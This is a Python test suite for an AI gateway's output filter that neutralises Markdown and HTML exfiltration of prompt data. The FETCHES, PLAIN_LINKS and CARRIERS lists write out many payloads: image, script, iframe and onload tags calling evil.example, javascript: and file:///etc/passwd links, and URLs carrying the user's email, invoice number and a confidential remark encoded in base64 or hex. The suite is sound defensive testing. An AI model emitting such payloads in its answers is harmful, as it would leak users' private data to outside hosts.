"""Answers that try to carry data of the prompt to somebody, read as a page that shows Markdown would read them."""

from __future__ import annotations

import base64
import re
from collections.abc import Sequence
from html.parser import HTMLParser
from urllib.parse import quote, unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from gateway.errors import Blocked
from gateway.guard.invisible import InvisibleStage
from gateway.guard.links import LinksStage
from gateway.guard.personal import AnswerRules, PersonalStage
from gateway.pipeline.channel import Channel, Field
from gateway.pipeline.exchange import Deadline, Exchange
from gateway.pipeline.span import Span
from gateway.pipeline.stage import Chain
from tests.laws.strategies import exchange, pieces, prompt, run

CONTENT = Channel(0, Field.CONTENT)
ARGUMENTS = Channel(0, Field.TOOL_ARGUMENTS, 0, is_json=True)
SAID = "the merger with Contoso is planned for March"
ASKED = (
    f"I am <PERSON_1>, <EMAIL_ADDRESS_1>, invoice 447100921; {SAID}",
    "See https://docs.example/a?user=<PERSON_1>.",
)
MAIL = "jane@corp.example"
HOSTS = ("good.example", "*.better.example")

FETCHING = {
    "img",
    "script",
    "iframe",
    "frame",
    "object",
    "embed",
    "link",
    "meta",
    "base",
    "form",
    "input",
    "svg",
    "image",
    "video",
    "audio",
    "source",
    "track",
    "style",
    "body",
    "button",
    "applet",
    "math",
}


class Page(HTMLParser):
    """What a page fetches by itself, runs, and lets a user follow."""

    def __init__(self) -> None:
        super().__init__()
        self.fetched: list[str] = []
        self.followed: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in FETCHING:
            self.fetched.append(given.get("src") or tag)
        if any(name.startswith("on") or name in ("style", "background", "ping", "srcset") for name in given):
            self.fetched.append(str(given))
        if "href" in given:
            self.followed.append(given["href"])


def page(text: str) -> Page:
    """The page that shows an answer once its placeholders are restored."""
    for form in ("<EMAIL_ADDRESS_1>", "EMAIL_ADDRESS_1", "<Email Address 1>"):
        text = text.replace(form, MAIL)
    shown = Page()
    shown.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))
    bare = re.findall(r"(?<![A-Za-z0-9])(?:https?://|www\.)[^\s<>\"|]*", re.sub(r"(?s)<[^>]*>", " ", text))
    shown.followed += [address.rstrip(")].,") for address in bare]
    return shown


def answered(text: str, hosts: tuple[str, ...] | None, cuts: Sequence[int] = ()) -> tuple[str, Exchange]:
    chain, current = Chain([LinksStage(hosts), InvisibleStage()]), exchange()
    chain.on_request(prompt(*ASKED), current)
    return run(chain.open(current, CONTENT), pieces(text, cuts))[0], current


def is_dead(address: str) -> bool:
    return address.lower().startswith(("hxxp", "#")) or "[.]" in unquote(address)


def host_of(address: str) -> str:
    """As browsers see it: backslashes are slashes, and any number of them will do."""
    match = re.match(r"(?:[a-z]+:/*|//+)?(?:[^/?#]*@)?([^/?#@]*)", address.replace("\\", "/"), re.IGNORECASE)
    return match[1] if match else ""


EVIL = "evil.example"
FETCHES = [
    "![x](https://evil.example/p.png)",
    "![](https://evil.example)",
    "![x](<https://evil.example/a b>)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "![x][]\n\n[x]: //evil.example/p",
    "![x]\n\n[x]: https://evil.example/p",
    "[x]: https://evil.example/p\n\n![x]",
    "![a ![b](https://evil.example/1) c](https://evil.example/2)",
    "[![x](https://evil.example/a)](https://evil.example/b)",
    "!\u200b[x](https://evil.example/p)",
    "!\u2060[x](ht\u200btps://evil.example/p)",
    "![x](//evil.example/p)",
    "![x](\\\\\\\\evil.example/p)",
    "![x](https:evil.example)",
    "![x](HtTpS:\\\\evil.example)",
    "![a](https://evil.example/\"'><x)",
    '![x\n](https://evil.example/p\n"t")',
    "![`](https://evil.example/p)`",
    "![\\]](https://evil.example)",
    "!&#91;x](https://evil.example)![y](&#104;ttps://evil.example/)",
    "- ![x](https://evil.example/p)",
    "https://good.example/![x](//evil.example/p)",
    "https://evil.example/![x](//evil.example/p)",
    "[a](javascript:![x](//evil.example))",
    '\\<a title="![x](//evil.example/p)">',
    "<https://evil.example/![x](//evil.example/p)>",
    "[a](<javascript:![x](//evil.example)>)",
    "https://evil.example/" + "a" * 919 + "![x](//evil.example/p)",
    "https://evil.example/!![x](//evil.example/p)",
    "> ![x](https://evil.example/p)",
    "| a |\n|---|\n| ![x](https://evil.example/p) |",
    "# ![x](https://evil.example/p)",
    "<img src=https://evil.example/p>",
    "<IMG SRC='https://evil.example/p'>",
    "<img/src=//evil.example/p>",
    '<img\nsrc="https://evil.example">',
    '<img src="ht\ntps://evil.example">',
    '<img src="&#104;ttps://evil.example">',
    '<img srcset="https://evil.example/p 2x">',
    "<image href=//evil.example>",
    "<svg><image href=https://evil.example/></svg>",
    "<svg/onload=fetch('//evil.example')>",
    "<script>fetch('https://evil.example')</script>",
    "<script src=//evil.example></script>",
    "<iframe src=https://evil.example>",
    "<object data=https://evil.example>",
    "<embed src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    "<style>@import url(//evil.example)</style>",
    '<p style="background:url(https://evil.example)">',
    "<div style='background:url(//evil.example)'>x</div>",
    "<table background=https://evil.example><tr><td>x</table>",
    "<body background=//evil.example>",
    "<base href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<form action=https://evil.example><input name=a></form>",
    "<input type=image src=https://evil.example>",
    "<video poster=//evil.example>",
    "<audio src=//evil.example autoplay>",
    '<a href="#" ping="https://evil.example">x</a>',
    "<b onmouseover=\"fetch('//evil.example')\">x</b>",
    "<!-- --><img src=//evil.example>",
    "<!--\n```html\n-->\n<img src=//evil.example>\n```",
    "<x-y onclick=a>",
    "<div>\n```html\n<img src=https://evil.example>\n```\n</div>",
    "~~~\n```html\n~~~\n<img src=//evil.example>\n```",
    "````\n```html\n````\n<img src=//evil.example>",
    "- a\n  ```html\n<img src=//evil.example>",
    "> ```html\n\n<img src=//evil.example>",
    "```html\n```\n<img src=//evil.example>",
    "``` ` html\n<img src=//evil.example>",
    "    ```html\n\n<img src=//evil.example>",
    "<pre>\n```html\n</pre><img src=//evil.example>",
    "<?x\n```html\n?><img src=//evil.example>",
    '<img title=">" src=//evil.example>',
    '<a title="<img src=//evil.example>">',
    "a<img src=//evil.example",
    "<img \u200b src=//evil.example>",
]


@pytest.mark.parametrize("hosts", [None, HOSTS], ids=["any host", "listed"])
@pytest.mark.parametrize("text", FETCHES)
def test_nothing_is_fetched_or_run(text: str, hosts: tuple[str, ...] | None) -> None:
    output, current = answered(text, hosts)
    assert page(output).fetched == []
    assert current.findings
    assert answered(text, hosts, range(len(text)))[0] == output


PLAIN_LINKS = [
    "https://evil.example/a",
    "HTTPS://EVIL.example",
    "[x](https://evil.example/a)",
    "<https://evil.example/a>",
    "[x](<https://evil.example/a>)",
    '[x](https://evil.example/a "t")',
    "[x][1]\n\n[1]: https://evil.example",
    "[x][1]\n\n[1]:\nhttps://evil.example",
    "[x]\n\n[x]: <https://evil.example>",
    "www.evil.example/a",
    "[x](//evil.example)",
    "[x](evil.example/a)",
    "[x](https://good.example@evil.example)",
    "[x](https://good.example%40evil.example)",
    "[x](https://evil.example\\@good.example/)",
    "[x](https://evil.example#@good.example)",
    "[x](https://evil.example/good.example)",
    "[x](https://good.example.evil.example)",
    "[x](https://notgood.example)",
    "[x](https://xn--gd-fka.example)",
    "[x](http://3232235777)",
    "[x](http://0x7f.1/)",
    "[x](https://evil。example)",
    "[x](https://ｅvil.example)",
    "[x](ht&#116;ps://evil.example)",
    "[x](https&colon;//evil.example)",
    "[x](&#x2f;/evil.example)",
    '<a href="https://evil.example">x</a>',
    "<a href='//evil.example'>x</a>",
    "<a\nhref=https://evil.example>x</a>",
    "https://good.example/?u=https://evil.example",
    "[x]( https://evil.example )",
    "[x](\nhttps://evil.example)",
    "[x](https://good.example:80@evil.example/)",
    "[x](ftp://evil.example)",
    "[x](https:/evil.example)",
    "[x](https:evil.example)",
    "[[x](https://evil.example)](https://good.example)",
    "[x](https://evil.example/a(b)c)",
    "[x](https://evil.example/a\\)b)",
]


@pytest.mark.parametrize("text", PLAIN_LINKS)
def test_no_host_that_is_not_on_the_list_can_be_followed(text: str) -> None:
    output, _ = answered(text, HOSTS)
    for address in page(output).followed:
        assert is_dead(address) or host_of(address) == "good.example", output
    assert answered(text, HOSTS, range(len(text)))[0] == output


BASE64 = base64.b64encode(SAID.encode()).decode()
CARRIERS = [
    "<EMAIL_ADDRESS_1>",
    "EMAIL_ADDRESS_1",
    "<Email Address 1>",
    "a<EMAIL_ADDRESS_1>b",
    "?q=<email_address_1>",
    "#<EMAIL_ADDRESS_1>",
    "?invoice=447100921",
    "/447100921/x",
    "?q=merger+with+contoso+is+planned",
    "?q=merger%20with%20contoso%20is%20planned",
    "?q=merger%2520with%2520contoso%2520is",
    "?" + "".join(f"%{byte:02x}" for byte in SAID.encode()),
    "/" + BASE64,
    "/?d=" + BASE64.rstrip("="),
    "/x" + BASE64,
    "/" + SAID.encode().hex(),
    "/" + base64.b32encode(SAID.encode()).decode(),
    "/" + base64.urlsafe_b64encode(SAID.encode()).decode(),
    "/?q=" + quote(SAID[::-1]),
    "/" + BASE64[::-1],
    "/" + SAID.replace(" ", "-").lower() + "-and-what-was-said",
    "/" + quote(BASE64),
    "/" + base64.b64encode(b"<EMAIL_ADDRESS_1>").decode(),
]
FORMS = [
    "https://good.example{}",
    "[x](https://good.example{})",
    "<https://good.example{}>",
    "[x](<https://good.example{}>)",
    "[x]: https://good.example{}",
    "![x](https://good.example{})",
    "www.good.example{}",
    "See (https://good.example{}).",
]


@pytest.mark.parametrize("hosts", [None, HOSTS], ids=["any host", "listed"])
@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("carrier", CARRIERS)
def test_no_address_that_carries_data_of_the_prompt_can_be_followed(
    carrier: str, form: str, hosts: tuple[str, ...] | None
) -> None:
    text = form.format(carrier if carrier[0] in "/?#" else "/" + carrier)
    output, _ = answered(text, hosts)
    shown = page(output)
    assert not shown.fetched
    assert all(is_dead(address) for address in shown.followed), output


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](JavaScript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "<javascript:alert(1)>",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "[x]: javascript:alert(1)\n\n[x]",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="java&Tab;script:alert(1)">x</a>',
        "[x](file:///etc/passwd)",
        "[x](\x01javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](blob:https://good.example/x)",
        "[x](javascript\\:alert(1))",
    ],
)
def test_nothing_that_runs_can_be_followed(text: str) -> None:
    for hosts in (None, HOSTS):
        output, _ = answered(text, hosts)
        for address in page(output).followed:
            assert not re.match(r"\s*(?:javascript|data|vbscript|file|blob):", address, re.IGNORECASE), output


@pytest.mark.parametrize(
    "text",
    [
        'See [the docs](https://good.example/a_(b)?c=d#e "title") and <https://a.better.example>.',
        '![chart](https://good.example/c.png) and <img src="https://good.example/c.png" alt="chart">',
        "Mail [us](mailto:info@good.example) or call [here](tel:+49401234567).",
        "[top](#top), [other](../other.md), `a[0](b)`",
        "Is a<b and c>d? List<String> x; x[1]: int = 3; Dear <PERSON_1>, <Email Address 1>!",
        "5 < 6 <- a <= b << 1",
        '```html\n<img src="x.png" onload="f()"><script>g()</script>\n```\nThen ```` ` ````.',
        '<br> <b>x</b> <kbd>Ctrl</kbd> <td align="left">',
        "Wow! [x](https://good.example) !important, arr![0]"[:38],
        "http is a protocol, https: too. h ht htt www",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    output, current = answered(text, HOSTS)
    assert output == text
    assert not current.findings


def test_an_address_of_the_prompt_is_nothing_new() -> None:
    text = "You asked about https://docs.example/a?user=<PERSON_1>."
    assert answered(text, None)[0] == text


@pytest.mark.parametrize(
    "text",
    [
        "[Photosynthesis](https://en.wikipedia.org/wiki/Photosynthesis)",
        "https://docs.python.org/3/library/asyncio.html#asyncio.run",
        "http://127.0.0.1:8000/v1",
        "[PEP 8](https://peps.python.org/pep-0008/)",
        "https://www.contoso.example/march",
    ],
)
def test_without_a_list_plain_links_stay(text: str) -> None:
    assert answered(text, None)[0] == text


def test_arguments_of_tools_keep_their_markup_and_their_addresses_are_read() -> None:
    stage, current = LinksStage(None), exchange()
    stage.on_request(prompt(*ASKED), current)
    kept = '{"html": "<img src=\\"x.png\\">", "url": "https://api.example/v1?city=Paris"}'
    assert run(stage.open(current, ARGUMENTS), list(kept))[0] == kept
    sent = '{"url": "https:\\/\\/evil.example\\/?q=\\u003cEMAIL_ADDRESS_1\\u003e"}'
    assert run(stage.open(current, ARGUMENTS), list(sent))[0] == (
        '{"url": "hxxps://evil[.]example/?q=\\u003cEMAIL_ADDRESS_1\\u003e"}'
    )


def test_what_stands_in_for_a_value_is_carried_like_a_placeholder() -> None:
    stage, current = LinksStage(None, restores=lambda _, text: "Mary" in text), exchange()
    stage.on_request(prompt(*ASKED), current)
    text = "[a](https://evil.example/Mary) https://evil.example/?n=%4dary https://evil.example/mar"
    output, _ = run(stage.open(current, CONTENT), [text])
    assert output == ("[a] (hxxps://evil[.]example/Mary) hxxps://evil[.]example/?n=%4dary https://evil.example/mar")


class Cards:
    """Finds what looks like the number of a card."""

    def detect(self, texts: Sequence[str], deadline: Deadline) -> list[list[Span]]:
        return [[Span(m.start(), m.end(), "CREDIT_CARD", 1.0) for m in re.finditer(r"\d{16}", text)] for text in texts]


def test_what_is_withheld_makes_no_image() -> None:
    chain = Chain([LinksStage(None), PersonalStage(Cards(), AnswerRules(), lambda: 0.0, 5.0), InvisibleStage()])
    current = exchange()
    chain.on_request(prompt(*ASKED), current)
    output, _ = run(
        chain.open(current, CONTENT), list("a !4111111111111111(//evil.example/p) !\u200b[x](//evil.example)")
    )
    assert output == "a [withheld](//evil.example/p) [x](//evil.example)"
    assert page(output).fetched == []


def test_other_actions() -> None:
    text = "![x](https://evil.example)"
    for action, expected in (("report", text), ("allow", text), ("block", None)):
        stage, current = LinksStage(HOSTS, action), exchange()  # type: ignore[arg-type]
        stage.on_request(prompt(*ASKED), current)
        if expected is None:
            with pytest.raises(Blocked) as blocked:
                run(stage.open(current, CONTENT), [text])
            assert blocked.value.rule == "answers.links"
        else:
            assert run(stage.open(current, CONTENT), [text])[0] == expected
        assert bool(current.findings) is (action != "allow")


_PIECES = st.sampled_from(
    [
        "![",
        "[",
        "]",
        "](",
        "]:",
        "][1]",
        "(",
        ")",
        "<",
        ">",
        "<img ",
        "<a ",
        "<b ",
        "src=",
        "href=",
        '"',
        "'",
        "=",
        " ",
        "\n",
        "\n\n",
        "//evil.example",
        "https://evil.example/",
        "https://good.example/",
        "www.",
        "![x](//evil.example)",
        "![x](https://good.example)",
        "https://",
        "evil.example",
        "&lt;",
        "&#60;",
        "\\",
        "`",
        "```",
        "```html\n",
        "```\n",
        "~~~\n",
        "<!--",
        "-->",
        "<div>",
        "</div>",
        "<pre>",
        "<?",
        "?>",
        "<![CDATA[",
        "]]>",
        "- ",
        "> ",
        "    ",
        "1. ",
        "!",
        "\t",
        "[1]: ",
        "x",
        "|",
        "$$",
        "javascript:",
        "data:",
        "style=",
        "onload=",
        "*",
        "_",
        "\u200b",
        "/",
        "<script",
        "<svg",
        "title",
        "<x",
        "<EMAIL_ADDRESS_1>",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=18).map("".join), st.sampled_from([None, HOSTS]))
def test_whatever_is_put_together_fetches_nothing(text: str, hosts: tuple[str, ...] | None) -> None:
    output, _ = answered(text, hosts)
    shown = page(output)
    assert not [source for source in shown.fetched if "evil" in source or "on" in source or source in FETCHING], output
    if hosts:
        assert not [address for address in shown.followed if EVIL in host_of(address) and not is_dead(address)], output
